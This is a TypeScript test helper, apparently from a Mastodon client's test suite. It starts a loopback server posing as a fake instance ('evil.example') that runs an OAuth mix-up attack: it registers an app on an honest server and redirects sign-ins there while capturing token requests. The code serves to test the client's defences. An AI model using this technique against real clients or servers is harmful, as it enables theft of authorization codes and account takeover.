import { createServer } from 'node:http'
import { listenOnLoopback, type LoopbackServer } from './loopback-server.ts'

export interface MixUpServer extends LoopbackServer {
  /** Requests to its token endpoint. */
  readonly tokenRequests: readonly string[]
}

/**
 * Starts a server for a mix-up attack. The deck takes it for a Mastodon server, but it redirects each sign-in to an
 * honest one, with an app that it registered there with the deck's redirect URI. Anyone can register such an app.
 *
 * @param honest URL of the honest server
 * @param deck redirect URI of the deck
 */
export async function startMixUpServer(honest: string, deck: string): Promise<MixUpServer> {
  const registered = await fetch(`${honest}/api/v1/apps`, {
    method: 'POST',
    body: new URLSearchParams({
      client_name: 'Colonnade',
      redirect_uris: deck,
      scopes: 'read write follow push',
    }),
  })
  const { client_id: clientId } = (await registered.json()) as { client_id: string }
  const tokenRequests: string[] = []

  const server = createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://evil')
    const respond = (value: object) => {
      response.setHeader('Access-Control-Allow-Origin', '*')
      response.setHeader('Content-Type', 'application/json')
      response.end(JSON.stringify(value))
    }
    switch (pathname) {
      case '/api/v2/instance':
        return respond({
          domain: 'evil.example',
          title: 'Evil',
          version: '4.3.0',
          configuration: {},
        })
      case '/api/v1/apps':
        return respond({ client_id: 'id', client_secret: 'secret' })
      case '/oauth/authorize': {
        searchParams.set('client_id', clientId)
        response.writeHead(302, { Location: `${honest}/oauth/authorize?${searchParams}` })
        return response.end()
      }
      case '/oauth/token':
        tokenRequests.push(request.url ?? '')
        return respond({ access_token: 'T', token_type: 'Bearer', scope: 'read', created_at: 1 })
      default:
        return respond({})
    }
  })
  return { ...(await listenOnLoopback(server)), tokenRequests }
}
